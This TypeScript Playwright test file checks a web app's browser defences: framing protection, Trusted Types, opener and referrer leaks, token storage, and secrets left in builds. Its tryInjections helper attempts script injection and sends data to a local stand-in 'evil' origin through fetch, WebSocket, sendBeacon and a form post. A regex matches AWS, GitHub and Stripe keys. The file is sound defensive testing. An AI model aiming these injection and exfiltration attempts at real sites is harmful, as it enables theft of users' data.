import { readdirSync, readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { join } from 'node:path'
import { e2eBuilds } from './builds.ts'
import { forgedMessages } from '../support/soak.ts'
import { expect, signIn, test as base } from './fixtures.ts'

interface Evil {
  readonly origin: string
  /** The paths of the requests that reached the site. */
  readonly hits: string[]
}

/** Another site. The app must accept nothing from it and send nothing to it. */
const test = base.extend<{ evil: Evil }>({
  evil: async ({}, provide) => {
    const hits: string[] = []
    const server = createServer((request, response) => {
      hits.push(request.url ?? '')
      response.setHeader('content-type', 'text/html')
      response.end('<!doctype html><title>evil</title>')
    })
    await new Promise<void>((resolve) => server.listen(3299, '127.0.0.1', resolve))
    await provide({ origin: 'http://127.0.0.1:3299', hits })
    server.closeAllConnections()
    server.close()
  },
})

/** The browser logs what it blocks, and these tests try what it has to block. */
const anyLine = { expectedLines: [/./s] }

test.describe('a page of the app', () => {
  test.use(anyLine)

  test('A52: cannot be framed', async ({ page, evil }) => {
    await page.goto(evil.origin)
    for (const path of ['/', '/account', '/callback?code=x&state=y', '/nowhere', '/assets/none.js']) {
      await page.evaluate((url) => {
        const frame = document.createElement('iframe')
        frame.src = url
        document.body.append(frame)
        return new Promise((resolve) => frame.addEventListener('load', resolve))
      }, `http://localhost:3000${path}`)
    }
    const addresses = () => page.frames().flatMap((frame) => (frame === page.mainFrame() ? [] : [frame.url()]))
    await expect.poll(addresses).toEqual(Array(5).fill('chrome-error://chromewebdata/'))
  })

  test('A74: runs no injected code, and sends nothing to another site except by a navigation', async ({
    page,
    evil,
  }) => {
    await signIn(page)
    const ran = await page.evaluate(tryInjections, evil.origin)
    expect(ran).toEqual([])
    await page.waitForLoadState('networkidle')
    expect(await page.evaluate(() => Object.keys(window).filter((name) => name.startsWith('pwned')))).toEqual([])
    expect(evil.hits).toEqual([])
  })

  test('A75: turns no text into HTML, a script or a worker', async ({ page }) => {
    await signIn(page)
    const outcomes = await page.evaluate(() => {
      const sinks: Record<string, () => unknown> = {
        innerHTML: () => (document.createElement('div').innerHTML = '<b>x</b>'),
        outerHTML: () => (document.body.appendChild(document.createElement('p')).outerHTML = '<b>x</b>'),
        insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
        scriptSrc: () => (document.createElement('script').src = '/x.js'),
        scriptText: () => (document.createElement('script').text = '1'),
        srcdoc: () => (document.createElement('iframe').srcdoc = '<b>x</b>'),
        documentWrite: () => document.write('<b>x</b>'),
        worker: () => new Worker('/x.js'),
        range: () => document.createRange().createContextualFragment('<b>x</b>'),
        parser: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
      }
      return Object.entries(sinks).map(([name, write]) => {
        try {
          write()
          return `${name} was let through`
        } catch (error) {
          return error instanceof TypeError ? 'TypeError' : `${name}: ${String(error)}`
        }
      })
    })
    expect(new Set(outcomes)).toEqual(new Set(['TypeError']))
  })

  test('A58: gives the site that opens it no reference to its window', async ({ page, evil }) => {
    await page.goto(evil.origin)
    const opened = page.waitForEvent('popup')
    await page.evaluate(() => void Object.assign(window, { opened: window.open('http://localhost:3000/') }))
    const popup = await opened
    await expect(popup.getByRole('button', { name: 'Sign in', exact: true })).toBeVisible()
    expect(await popup.evaluate(() => window.opener)).toBeNull()
    expect(await page.evaluate('opened.closed')).toBe(true)
  })
})

test('A53: no request of a sign-in carries a referrer', async ({ page }) => {
  const referrers: string[] = []
  page.on('request', async (request) => {
    const { referer = '' } = await request.allHeaders()
    if (referer !== '') referrers.push(`${request.url()} from ${referer}`)
  })
  await signIn(page)
  await page.getByRole('button', { name: 'Refresh now' }).click()
  await expect(page.getByText('The session has been refreshed.')).toBeVisible()
  expect(referrers).toEqual([])
})

interface PageContent {
  readonly session: string[]
  readonly databases: (string | undefined)[]
  readonly cacheNames: string[]
}

test('A55: tokens are only in the session record, and nowhere else in the page', async ({ page }) => {
  const tokens: string[] = []
  page.on('response', async (response) => {
    if (!response.url().endsWith('/oauth2/token')) return
    const body: Record<string, unknown> = await response.json()
    tokens.push(...['access_token', 'id_token', 'refresh_token'].map((name) => String(body[name])))
  })
  await signIn(page)
  await expect.poll(() => tokens).toHaveLength(3)
  const pageState: PageContent = await page.evaluate(async () => ({
    session: Object.keys(sessionStorage).map((key) => [key, sessionStorage.getItem(key)].join('=')),
    local: JSON.stringify(localStorage),
    cookies: document.cookie,
    databases: (await indexedDB.databases()).map(({ name }) => name),
    cacheNames: await caches.keys(),
    history: JSON.stringify(history.state),
    address: location.href,
    dom: document.documentElement.outerHTML,
    globals: Object.keys(window)
      .map((name) => String(Reflect.get(window, name)))
      .join('\n'),
    name: window.name,
  }))
  const { session, databases, cacheNames, ...elsewhere } = pageState
  expect([databases, cacheNames]).toEqual([[], []])
  expect(session.filter((record) => tokens.some((token) => record.includes(token)))).toHaveLength(1)
  for (const token of tokens) expect(JSON.stringify(elsewhere)).not.toContain(token)
})

test('A57: messages from other windows change nothing and cause no request', async ({ page }) => {
  await signIn(page)
  await page.waitForLoadState('networkidle')
  let requests = 0
  page.on('request', () => (requests += 1))
  await page.evaluate((messages) => {
    for (let count = 0; count < messages; count += 1) window.postMessage({ type: 'session-changed', id: count }, '*')
  }, forgedMessages)
  // The page first handles all of them.
  await expect(page.getByText('minseo@example.com')).toBeVisible({ timeout: 60_000 })
  expect(requests).toBe(0)
})

/** A PEM key, keys of AWS, GitHub and Stripe, a JWT, and a client secret as Cognito makes them. */
const secretShapes =
  /-----BEGIN|\b(?:AKIA|ASIA)[0-9A-Z]{16}\b|\bghp_\w{20}|\bsk_live_|\beyJ[\w-]{8,}\.eyJ|\b(?=[a-z]*\d)[0-9a-z]{51,64}\b/

test('A80, A81: a build contains no source map, no code of the tests or the local pool, and no secret', () => {
  for (const { outDir } of e2eBuilds) {
    const files = readdirSync(outDir, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile())
    expect(files.length).toBeGreaterThan(5)
    expect(files.map(({ name }) => name).filter((name) => name.endsWith('.map'))).toEqual([])
    for (const { parentPath, name } of files.filter(({ name: file }) => /\.(js|css|html)$/.test(file))) {
      const text = readFileSync(join(parentPath, name), 'utf8')
      expect(text, name).not.toMatch(
        /sourceMappingURL|@vite\/client|vitest|setupServer|createLocalPool|Local-pass-1|nonce="/,
      )
      expect(text, name).not.toMatch(secretShapes)
    }
  }
})

/** Tries what injected code would try. Returns the names of what was not blocked. Runs in the page. */
async function tryInjections(origin: string): Promise<string[]> {
  const ran: string[] = []
  const tries: Record<string, () => unknown> = {
    eval: () => Reflect.apply(Reflect.get(globalThis, 'eval'), undefined, ['1']),
    Function: () => Reflect.construct(Reflect.get(globalThis, 'Function'), ['return 1']),
    fetch: () => fetch(`${origin}/fetch`),
    import: () => import(/* @vite-ignore */ `${origin}/import.js`),
    WebSocket: () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(origin.replace('http', 'ws'))
        socket.addEventListener('open', resolve)
        socket.addEventListener('error', reject)
      }),
  }
  for (const [name, act] of Object.entries(tries)) {
    // Code that Playwright runs directly may do more than the page may. Code after a timer may not.
    await new Promise((resolve) => setTimeout(resolve))
    try {
      await act()
      ran.push(name)
    } catch {
      // Blocked, as expected.
    }
  }
  const add = (tag: string, attributes: Record<string, string>) => {
    const element = document.createElement(tag)
    try {
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
      document.body.append(element)
      element.click()
    } catch {
      // Trusted Types block some of them before the policy is checked.
    }
    return element
  }
  add('button', { type: 'button', onclick: 'window.pwnedHandler = 1' })
  add('a', { href: 'javascript:void(window.pwnedUrl = 1)' })
  add('script', { src: 'data:text/javascript,window.pwnedData=1' })
  add('iframe', { src: `${origin}/frame` })
  add('object', { data: `${origin}/object` })
  add('img', { src: `${origin}/image` })
  add('link', { rel: 'stylesheet', href: `${origin}/style.css` })
  add('link', { rel: 'prefetch', href: `${origin}/prefetch` })
  add('base', { href: origin })
  add('video', { src: `${origin}/video` })
  const form = add('form', { action: `${origin}/form`, method: 'post' })
  if (form instanceof HTMLFormElement) form.submit()
  navigator.sendBeacon(`${origin}/beacon`, 'x')
  await new Promise((resolve) => setTimeout(resolve, 500))
  return ran
}
